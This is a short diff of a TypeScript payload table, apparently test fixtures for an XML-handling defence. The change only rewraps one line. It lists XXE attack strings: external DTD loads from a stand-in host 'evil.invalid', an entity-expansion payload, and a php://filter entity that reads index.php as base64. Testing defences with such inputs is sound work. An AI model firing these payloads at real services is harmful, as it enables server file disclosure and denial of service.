@@ -88,7 +88,8 @@ export const ATTACKS: Readonly<Record<AttackClass, Attack>> = {
       '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % x SYSTEM "http://evil.invalid/x.dtd"> %x;]><order/>',
       '<?xml version="1.0"?><!DOCTYPE o SYSTEM "http://evil.invalid/o.dtd"><order>1</order>',
       '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><order>&b;&b;</order>',
-      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x PUBLIC "p" "php://filter/read=convert.base64-encode/resource=index.php">]><order>&x;</order>',
+      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x PUBLIC "p" ' +
+        '"php://filter/read=convert.base64-encode/resource=index.php">]><order>&x;</order>',
     ],
   },
   inclusion: {
